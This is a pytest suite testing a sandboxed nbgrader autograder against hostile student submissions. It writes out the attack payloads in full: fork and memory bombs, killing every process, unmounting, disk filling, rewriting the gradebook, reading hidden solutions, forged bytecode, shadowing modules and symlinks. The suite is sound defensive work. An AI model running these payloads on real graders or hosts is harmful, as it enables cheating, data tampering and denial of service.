"""Attacks on the grader from inside a submission, all graded by ONE real `nbgrader autograde` run.

The course is a temporary copy of the project's nbgrader_config.py and helpers with a small
assignment `tiny` (three functions, three check cells of 10 points, a checks module shipped beside
the notebook like cnn_checks.py). The batch: an honest incomplete submission (cube left undone,
20 points), and each attack with a correct submission (30 points) graded before and after it.
Every attack must gain nothing over its honest equivalent, leave the neighbours' grades and the
course's files as they were, and let the batch finish with bounded outputs.
"""
import hashlib
import importlib.util
import marshal
import os
import shutil
import socket
import threading
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
from nbgrader.api import Gradebook

import support
from helpers.course import ROOT
from helpers.grading.sandbox import cgroups
from helpers.grading.sandbox.execute import METADATA_KEY
from helpers.grading.sandbox.protection import probe

ASSIGNMENT = "tiny"
POINTS = {"double_check": 10, "square_check": 10, "cube_check": 10}
FULL, HONEST = 30, 20  # a correct submission; the honest one without cube
SOLUTIONS = {"double": "def double(x):\n    return 2 * x", "square": "def square(x):\n    return x * x",
             "cube": "def cube(x):\n    return x * x * x"}
STUB = "def cube(x):\n    raise NotImplementedError()"
SECRET = "grader-secret-5b1d"  # in the grader's environment during the run
TIMEOUT = 6  # seconds per cell in this course (the project's is 120)
MEMORY = 512 * 2**20  # bytes per kernel in this course (the project's is 2 GiB)
ESCAPE_MARKER = Path("/tmp/cnn-sandbox-escaped.txt")

# --- the assignment ---------------------------------------------------------------------------

CHECKS_MODULE = "import numpy as np\n\n\ndef same(a, b):\n    return bool(np.array_equal(a, b))\n"


def graded(cell, grade_id, points=None, solution=False):
    """The cell with nbgrader's metadata: a solution cell, or a locked (check) cell with points."""
    cell.metadata["nbgrader"] = {"grade_id": grade_id, "grade": points is not None, "solution": solution,
                                 "locked": not solution, "schema_version": 3}
    if points is not None:
        cell.metadata["nbgrader"]["points"] = points
    return cell


def source_notebook():
    """The instructor's notebook: imports, then double, square and cube, each with its check cell."""
    cells = [new_markdown_cell("# A tiny assignment"),
             graded(new_code_cell("import numpy as np\nfrom tiny_checks import same"), "imports")]
    for name, power in (("double", "2 * x"), ("square", "x ** 2"), ("cube", "x ** 3")):
        body = SOLUTIONS[name].replace("\n", "\n    ### BEGIN SOLUTION\n", 1) + "\n    ### END SOLUTION"
        cells.append(graded(new_code_cell(body), name, solution=True))
        check = f'"""Check {name}."""\nx = np.arange(4)\nassert same({name}(x), {power})'
        cells.append(graded(new_code_cell(check), f"{name}_check", points=POINTS[f"{name}_check"]))
    notebook = new_notebook(cells=cells)
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return notebook


def make_tiny_course(dest: Path) -> Path:
    """The project's config and helpers, the tiny assignment, per-course limits, assignment generated."""
    dest.mkdir(parents=True)
    ignore = shutil.ignore_patterns("__pycache__")
    shutil.copytree(ROOT / "helpers", dest / "helpers", ignore=ignore)
    shutil.copytree(ROOT / "source" / "cnn", dest / "source" / "cnn", ignore=ignore)  # helpers.grading.verify loads it
    config = (ROOT / "nbgrader_config.py").read_text()
    config += (f"\nc.Execute.timeout = {TIMEOUT}\nc.SandboxedExecute.memory_limit = {MEMORY}\n"
               "c.SandboxedExecute.require_sandbox = True\n")
    (dest / "nbgrader_config.py").write_text(config)
    source = dest / "source" / ASSIGNMENT
    source.mkdir()
    nbformat.write(source_notebook(), str(source / f"{ASSIGNMENT}.ipynb"))
    (source / "tiny_checks.py").write_text(CHECKS_MODULE)
    support.nbgrader(dest, "generate_assignment", ASSIGNMENT, "--force")
    return dest


# --- the submissions ----------------------------------------------------------------------------

@dataclass
class Submission:
    """A release copy with solution cells set, extra cells, and extra files or links beside it."""

    solutions: dict = field(default_factory=dict)  # function -> source, default the correct one
    after: dict = field(default_factory=dict)  # grade_id -> code of an extra cell inserted after it
    files: dict = field(default_factory=dict)  # relative path -> text or bytes
    links: dict = field(default_factory=dict)  # relative path -> target of a symbolic link
    expected: int = FULL  # its score
    honest: str = "00-good"  # its honest equivalent, whose score it must not exceed

    def write(self, course: Path, student: str) -> None:
        folder = course / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        notebook = nbformat.read(str(course / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), as_version=4)
        cells = []
        for cell in notebook.cells:
            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
            if grade_id in SOLUTIONS:
                cell.source = self.solutions.get(grade_id, SOLUTIONS[grade_id])
            cells.append(cell)
            if grade_id in self.after:
                cells.append(new_code_cell(self.after[grade_id]))
        notebook.cells = cells
        for relative, content in self.files.items():
            (folder / relative).parent.mkdir(parents=True, exist_ok=True)
            (folder / relative).write_bytes(content if isinstance(content, bytes) else content.encode())
        for relative, target in self.links.items():
            os.symlink(target, folder / relative)
        if f"{ASSIGNMENT}.ipynb" not in self.links:
            nbformat.write(notebook, str(folder / f"{ASSIGNMENT}.ipynb"))


# The attacks' code. {course} is the course's absolute path (a kernel can work it out from its
# working directory, autograded/<student>/tiny), {port} a TCP port the test listens on.
EXEC_CUBE_FROM = """
import json
def _solution(path):
    for cell in json.load(open(path))["cells"]:
        if cell["metadata"].get("nbgrader", {{}}).get("grade_id") == "cube":
            return "".join(cell["source"])
read = []
for path in {paths!r}:
    try:
        exec(_solution(path))
        read.append(path)
    except Exception as error:
        print("cannot read", path, type(error).__name__)
print("read:", read)
if not read:
    def cube(x):
        raise NotImplementedError()
"""
REWRITE_GRADEBOOK = """
import sqlite3
db = sqlite3.connect("file:{course}/gradebook.db?mode=rw", uri=True)
db.execute("UPDATE grade SET manual_score = 10")
db.commit()
print("gradebook rewritten")
"""
WRITE_OUTSIDE = """
for path in ["{course}/source/tiny/tiny_checks.py", "{course}/release/tiny/tiny_checks.py",
             "{course}/submitted/99-good/tiny/tiny.ipynb", "{course}/gradebook.db",
             "{course}/escaped.txt", "{marker}"]:
    try:
        with open(path, "a") as f:
            f.write("raise SystemExit('tampered')")
    except OSError as error:
        print("cannot write", path, error)
"""
CONNECT = """
import socket
for address in [("127.0.0.1", {port}), ("8.8.8.8", 53)]:
    try:
        socket.create_connection(address, timeout=2).sendall(b"escaped")
        print("connected to", address)
    except OSError as error:
        print("no network:", error)
"""
MEMORY_BOMB = """
import resource
for limit in (resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_CORE):
    try:
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (ValueError, OSError) as error:
        print("rlimit", limit, error)
import numpy as np
hog = []
while True:
    hog.append(np.ones(2**24))
"""
FORK_BOMB = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
IGNORE_INTERRUPT = """
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    time.sleep(1)
"""
KILL_PARENT = """
import os, signal
for pid in {{os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())}} - {{os.getpid()}}:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as error:
        print("cannot kill", pid, error)
try:
    os.kill(-1, signal.SIGKILL)
except OSError as error:
    print("kill -1:", error)
os.killpg(0, signal.SIGKILL)
"""
FILL_DISK = """
import os, sys
folder = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])  # the connection file's: writable
written = 0
try:
    with open(os.path.join(folder, "fill"), "wb") as f:
        while written < 4 * 2**30:
            f.write(bytes(2**24))
            written += 2**24
except OSError as error:
    print("stopped:", error)
print("wrote", written // 2**20, "MiB")
"""
LEAK_FILES = """
open("leak.txt", "w").write("written by the kernel")
open("tiny_checks.py", "a").write("\\nraise SystemExit('tampered')\\n")
"""
UMOUNT = """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for target in [os.getcwd(), "/", "/tmp", "{course}"]:
    print("umount2", target, libc.umount2(target.encode(), 2), ctypes.get_errno())
print(subprocess.run(["umount", "-l", os.getcwd()], capture_output=True, text=True).stderr)
"""
SHADOWS = {
    "numpy.py": "raise SystemExit('numpy.py was imported')\n",
    "sitecustomize.py": "import os\nos._exit(3)\n",
    "matplotlibrc": "backend: module://no_such_backend\n",
    "ipython_kernel_config.py": "c.InteractiveShellApp.exec_lines = ['print(\"CONFIG RAN\")']\n",
    ".ipython/profile_default/startup/00-cheat.py": "print('STARTUP RAN')\n",
    "tiny_checks/__init__.py": "def same(a, b):\n    return True\n",
}
WRONG_CUBE = "def cube(x):\n    return 0 * x"
PRINTING_DOUBLE = "def double(x):\n    print('y' * 20_000_000)\n    return 2 * x"


def exec_cube_from(*paths):
    """cube's cell: take the solution from the first notebook it can read at `paths`, else give up."""
    return EXEC_CUBE_FROM.format(paths=list(paths))


def attacks(course: Path, port: int) -> dict:
    """{name: Submission} of every attack; `port` is a TCP port the test listens on."""
    c = str(course)
    given = {"course": c, "port": port, "marker": ESCAPE_MARKER}
    source = f"{c}/source/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"
    after_imports = lambda code: {"imports": code.format(**given)}  # noqa: E731
    after_square = lambda code: {"square_check": code.format(**given)}  # noqa: E731
    cheat = dict(expected=HONEST, honest="01-honest")  # tries to get cube's points without solving it
    return {
        "read-source": Submission(solutions={"cube": exec_cube_from(
            source, f"../../../source/{ASSIGNMENT}/{ASSIGNMENT}.ipynb", str(ROOT / "source/cnn/cnn.ipynb"))}, **cheat),
        "read-neighbour": Submission(solutions={"cube": exec_cube_from(
            f"{c}/submitted/00-good/{ASSIGNMENT}/{ASSIGNMENT}.ipynb",
            f"{c}/autograded/00-good/{ASSIGNMENT}/{ASSIGNMENT}.ipynb")}, **cheat),
        "gradebook": Submission(solutions={"cube": STUB}, after=after_imports(REWRITE_GRADEBOOK), **cheat),
        "write-outside": Submission(after=after_imports(WRITE_OUTSIDE)),
        "network": Submission(after=after_imports(CONNECT)),
        "environment": Submission(after={"imports": "import os\nprint(dict(os.environ))"}),
        "exit": Submission(after={"square_check": "import os\nos._exit(1)"}),
        "exit-in-check": Submission(solutions={"cube": "def cube(x):\n    import os\n    os._exit(1)"}, **cheat),
        "memory": Submission(after=after_square(MEMORY_BOMB)),
        "fork-bomb": Submission(after=after_square(FORK_BOMB)),
        "sleep": Submission(after={"square_check": "import time\ntime.sleep(10**6)"}),
        "ignore-interrupt": Submission(after=after_square(IGNORE_INTERRUPT)),
        "print": Submission(after={"square_check": "print('x' * 50_000_000)"}),
        "print-in-check": Submission(solutions={"double": PRINTING_DOUBLE}),
        "leak-file": Submission(after=after_imports(LEAK_FILES)),
        "fill-disk": Submission(after=after_square(FILL_DISK)),
        "shadow": Submission(solutions={"cube": WRONG_CUBE}, **cheat, files={
            **SHADOWS, "__pycache__/tiny_checks.cpython-311.pyc": fake_bytecode(SHADOWS["tiny_checks/__init__.py"])}),
        "kill-parent": Submission(after=after_square(KILL_PARENT)),
        "umount": Submission(solutions={"cube": UMOUNT.format(**given) + exec_cube_from(source)}, **cheat),
        "symlinks": Submission(links={"data.json": f"../../../source/{ASSIGNMENT}/{ASSIGNMENT}.ipynb",
                                      "grades.db": f"{c}/gradebook.db"},
                               solutions={"cube": exec_cube_from("data.json")}, **cheat),
        "symlinked-notebook": Submission(expected=0, honest="01-honest", links={
            f"{ASSIGNMENT}.ipynb": f"../../../source/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"}),
    }


def fake_bytecode(source: str) -> bytes:
    """A .pyc that Python loads without checking the .py beside it (hash-based, unchecked: flags 1)."""
    code = compile(source, "tiny_checks.py", "exec")
    return (importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little")
            + importlib.util.source_hash(source.encode()) + marshal.dumps(code))


def batch(course: Path, port: int) -> dict:
    """{student: Submission}: honest first, then every attack between two correct submissions."""
    students = {"00-good": Submission(), "01-honest": Submission(solutions={"cube": STUB}, expected=HONEST)}
    for number, (name, submission) in enumerate(attacks(course, port).items(), start=1):
        students[f"{2 * number:02d}-{name}"] = submission
        students[f"{2 * number + 1:02d}-good"] = Submission()
    students["99-good"] = Submission()  # write-outside aims at this one's submitted notebook
    return students


# --- one run for the whole batch ----------------------------------------------------------------

def digest(folder: Path) -> dict:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and not p.is_symlink()}


class Listener:
    """A TCP server on the grader's loopback that counts the connections it gets."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            try:
                self.server.accept()[0].close()
            except OSError:
                return
            self.connections += 1


@dataclass
class Run:
    course: Path
    students: dict
    result: object
    before: dict
    after: dict
    connections: int

    def autograded(self, student: str) -> Path:
        return self.course / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"

    def notebook(self, student: str):
        return nbformat.read(str(self.autograded(student)), as_version=4)

    def report(self, student: str) -> dict:
        return self.notebook(student).metadata[METADATA_KEY]

    def text(self, student: str) -> str:
        return self.autograded(student).read_text()

    def printed(self, student: str) -> str:
        """Everything the student's kernel printed or raised, all cells."""
        return "".join(o.get("text", "") + o.get("evalue", "")
                       for cell in self.notebook(student).cells for o in cell.get("outputs", []))

    def cell(self, student: str, code: str):
        return next(cell for cell in self.notebook(student).cells if code in cell.source)


@pytest.fixture(scope="session")
def attacked(tmp_path_factory):
    """The batch, graded by one `nbgrader autograde`, the leak attack's feedback generated."""
    missing = probe().missing
    if missing:
        pytest.skip("the sandbox is not available here: " + "; ".join(missing))
    course = make_tiny_course(tmp_path_factory.mktemp("attacks") / "course")
    listener = Listener()
    students = batch(course, listener.port)
    for student, submission in students.items():
        submission.write(course, student)
    ESCAPE_MARKER.unlink(missing_ok=True)
    watched = {name: course / name for name in ("source", "release", "submitted")}
    before = {name: digest(folder) for name, folder in watched.items()}
    os.environ["CNN_SANDBOX_TEST_SECRET"] = SECRET
    try:
        result = support.nbgrader(course, "autograde", ASSIGNMENT, check=False)
    finally:
        del os.environ["CNN_SANDBOX_TEST_SECRET"]
    leak = next(s for s in students if s.endswith("leak-file"))
    support.nbgrader(course, "generate_feedback", ASSIGNMENT, "--student", leak)
    after = {name: digest(folder) for name, folder in watched.items()}
    listener.server.close()
    return Run(course, students, result, before, after, listener.connections)


def scores(run: Run) -> dict:
    """{student: (total score, any grade needing manual grading, any manual score set)}"""
    with Gradebook(f"sqlite:///{run.course / 'gradebook.db'}") as gradebook:
        result = {}
        for student in run.students:
            grades = gradebook.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, student).grades
            result[student] = (sum(g.score for g in grades), any(g.needs_manual_grade for g in grades),
                               any(g.manual_score is not None for g in grades))
        return result


ATTACKERS = [name for name in batch(Path("/course"), 0) if not name.endswith("good") and name != "01-honest"]


def test_the_batch_finishes(attacked):
    """Does one autograde run grade every submission (an autograded notebook each, exit code 0)?"""
    assert attacked.result.returncode == 0, attacked.result.stderr[-3000:]
    missing = [s for s in attacked.students if not attacked.autograded(s).exists()]
    assert not missing


def test_there_are_enough_attacks():
    """Does the suite hold at least the twelve attacks the issue asks for?"""
    assert len(ATTACKERS) >= 12


@pytest.mark.parametrize("student", ATTACKERS)
def test_the_attack_gains_nothing(attacked, student):
    """Does every attack score what it is expected to, never more than its honest equivalent?"""
    submission = attacked.students[student]
    got = scores(attacked)
    assert got[student][0] == submission.expected
    assert got[student][0] <= got[submission.honest][0]


def test_the_neighbours_grades_are_unchanged(attacked):
    """Does every correct submission, graded between the attacks, get full points with no manual score?"""
    got = scores(attacked)
    goods = {s: got[s] for s in attacked.students if s.endswith("good")}
    assert goods == {s: (FULL, False, False) for s in goods}
    assert got["01-honest"] == (HONEST, False, False)


def test_outputs_stay_bounded(attacked):
    """Is every autograded notebook small, whatever its kernel printed?"""
    sizes = {s: attacked.autograded(s).stat().st_size for s in attacked.students}
    assert max(sizes.values()) < 400_000, sizes


def test_course_files_are_unchanged(attacked):
    """Are source/, release/ and submitted/ byte for byte what they were before the run, with nothing
    written outside the kernel's working copy?"""
    for name in ("source", "release", "submitted"):
        assert attacked.after[name] == attacked.before[name], name
    assert not (attacked.course / "escaped.txt").exists()
    assert not ESCAPE_MARKER.exists()


def test_the_network_is_unreachable(attacked):
    """Did no kernel connect to a server on the grader's loopback?"""
    student = next(s for s in attacked.students if s.endswith("network"))
    assert attacked.connections == 0
    assert "connected to" not in attacked.printed(student) and "no network" in attacked.printed(student)


def test_the_graders_environment_stays_out(attacked):
    """Does a kernel that prints its environment not see the grader's variables?"""
    student = next(s for s in attacked.students if s.endswith("environment"))
    printed = attacked.printed(student)
    assert "NBGRADER_EXECUTION" in printed and SECRET not in attacked.text(student)


@pytest.mark.parametrize("name", ["read-source", "read-neighbour", "umount"])
def test_nothing_outside_the_working_copy_is_readable(attacked, name):
    """Does an attempt to read the instructor's or a neighbour's notebook read nothing?"""
    student = next(s for s in attacked.students if s.endswith(name))
    assert "read: []" in attacked.printed(student)


# attack -> (code in the cell that loses the kernel, the error that cell ends with)
LOST_KERNELS = {"exit": ("os._exit(1)", "KernelDied"), "memory": ("hog.append", "KernelDied"),
                "kill-parent": ("os.killpg(0", "KernelDied"), "ignore-interrupt": ("SIG_IGN", "KernelHung"),
                "exit-in-check": ("Check cube", "KernelDied")}


@pytest.mark.parametrize("name", sorted(LOST_KERNELS))
def test_a_lost_kernel_costs_only_its_cell(attacked, name):
    """Does a kernel killed or hung by a cell leave an error in that cell only, and one restart?"""
    student = next(s for s in attacked.students if s.endswith(f"-{name}"))
    code, error = LOST_KERNELS[name]
    errors = [o.ename for o in attacked.cell(student, code).outputs if o.output_type == "error"]
    assert errors == [error]
    events = attacked.report(student)["events"]
    assert len(events) == 1 and events[0].endswith("; restarted")


def test_the_graders_disk_cannot_be_filled(attacked):
    """Does a kernel writing gigabytes into its connection folder, the one folder of the grader it can
    write to, stop at its memory limit (the folder is a tmpfs charged to the kernel)?"""
    student = next(s for s in attacked.students if s.endswith("fill-disk"))
    assert "wrote 4096 MiB" not in attacked.printed(student)
    assert attacked.report(student)["events"] or "stopped:" in attacked.printed(student)


def test_a_timed_out_cell_ends_with_an_error(attacked):
    """Does a cell that sleeps forever end with a timeout error, without a restart?"""
    student = next(s for s in attacked.students if s.endswith("sleep"))
    cell = attacked.cell(student, "time.sleep(10**6)")
    assert "CellTimeoutError" in [o.ename for o in cell.outputs if o.output_type == "error"]
    assert attacked.report(student)["events"] == []


@pytest.mark.parametrize("name", ["print", "print-in-check"])
def test_a_flood_of_output_is_cut_with_a_note(attacked, name):
    """Does a cell that prints megabytes keep 100 kB of it, then a note that it was cut?"""
    student = next(s for s in attacked.students if s.endswith(name))
    cell = attacked.cell(student, "* 50_000_000" if name == "print" else "Check double")
    text = "".join(o.text for o in cell.outputs if o.output_type == "stream")
    assert 100_000 <= len(text) < 101_000 and "[output cut:" in text


def test_files_the_kernel_writes_reach_no_feedback(attacked):
    """Do files the kernel writes beside the notebook stay out of autograded/ and feedback/?"""
    student = next(s for s in attacked.students if s.endswith("leak-file"))
    autograded = attacked.autograded(student).parent
    assert sorted(p.name for p in autograded.iterdir()) == ["tiny.ipynb", "tiny_checks.py"]
    assert (autograded / "tiny_checks.py").read_text() == CHECKS_MODULE
    feedback = attacked.course / "feedback" / student / ASSIGNMENT
    assert (feedback / "tiny.html").exists() and not (feedback / "leak.txt").exists()


def test_shadowing_files_do_not_reach_the_kernel(attacked):
    """Are numpy.py, startup hooks, IPython config and a package shadowing the checks module left out,
    the package flagged as tampering, and none of them run?"""
    student = next(s for s in attacked.students if s.endswith("shadow"))
    report = attacked.report(student)
    left_out = {entry.split(" ")[0] for entry in report["left_out"]}
    assert left_out == {"numpy.py", "sitecustomize.py", "matplotlibrc", "tiny_checks"}
    assert [flag.split(" ")[0] for flag in report["flags"]] == ["tiny_checks"]
    printed = attacked.printed(student)
    assert "RAN" not in printed and "was imported" not in printed


def test_symbolic_links_are_not_followed(attacked):
    """Are the copies nbgrader made of submitted symbolic links removed, and the submission flagged?"""
    student = next(s for s in attacked.students if s.endswith("-symlinks"))
    autograded = attacked.autograded(student).parent
    assert not (autograded / "solution.ipynb").exists() and not (autograded / "grades.db").exists()
    assert len(attacked.report(student)["flags"]) == 2


def test_a_symlinked_notebook_gets_no_solution(attacked):
    """Does a notebook submitted as a link to the instructor's source keep none of its solutions?"""
    student = next(s for s in attacked.students if s.endswith("symlinked-notebook"))
    assert "BEGIN SOLUTION" not in attacked.text(student) and "x * x * x" not in attacked.text(student)
    assert attacked.report(student)["flags"]


def test_every_kernel_was_sandboxed(attacked):
    """Was every notebook graded in the sandbox with per-kernel cgroups, and is no group left behind
    once its launcher is gone (kernels of other runs may be running)?"""
    reports = [attacked.report(s) for s in attacked.students]
    assert all(r["sandboxed"] and r["cgroups"] and not r["missing"] for r in reports)
    groups = [name for c in cgroups.CONTROLLERS for name in os.listdir(cgroups.own_group(c))
              if name.startswith(cgroups.PREFIX)]
    assert [name for name in groups if not Path(f"/proc/{name[len(cgroups.PREFIX):]}").exists()] == []
    keys = {"sandboxed", "cgroups", "missing", "flags", "left_out", "events"}  # the interface (threat-model.md)
    assert all(set(report) == keys for report in reports)
